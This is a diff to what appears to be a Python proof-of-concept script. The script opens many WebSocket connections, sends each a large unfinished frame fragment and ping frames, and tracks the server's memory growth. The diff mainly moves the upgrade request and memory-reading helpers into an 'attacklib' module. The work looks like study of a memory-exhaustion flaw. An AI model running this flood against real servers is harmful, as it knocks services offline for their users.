@@ -21,11 +21,8 @@ import socket
 import subprocess
 import time
 
-UPGRADE = (
-    b"GET /socket/websocket?vsn=2.0.0 HTTP/1.1\r\nHost: flood\r\nUpgrade: websocket\r\n"
-    b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
-    b"Sec-WebSocket-Version: 13\r\n\r\n"
-)
+from attacklib import rss_kib, upgrade
+
 MASK = b"\x00\x00\x00\x00"  # a zero mask: the payload goes out as it is (valid, and cheap)
 PING = bytes([0x89, 0x80]) + MASK
 
@@ -41,25 +38,8 @@ def first_fragment(n: int) -> bytes:
     return head + MASK + b"\x07" * n
 
 
-def rss_kib(pid: int) -> int:
-    with open(f"/proc/{pid}/status") as f:
-        for line in f:
-            if line.startswith("VmRSS:"):
-                return int(line.split()[1])
-    raise RuntimeError("no VmRSS line")
-
-
-def upgrade(addr) -> socket.socket:
-    s = socket.create_connection(addr, timeout=10)
-    s.sendall(UPGRADE)
-    head = b""
-    while b"\r\n\r\n" not in head:
-        chunk = s.recv(4096)
-        if not chunk:
-            raise RuntimeError("closed during the upgrade")
-        head += chunk
-    if not head.startswith(b"HTTP/1.1 101"):
-        raise RuntimeError(head.split(b"\r\n")[0].decode())
+def upgrade_nonblocking(addr) -> socket.socket:
+    s = upgrade(addr)
     s.setblocking(False)
     return s
 
@@ -107,7 +87,7 @@ def main() -> int:
         frag = first_fragment(args.bytes)
         socks = []
         for _ in range(args.sockets):
-            s = upgrade(addr)
+            s = upgrade_nonblocking(addr)
             s.setblocking(True)
             try:
                 s.sendall(frag)
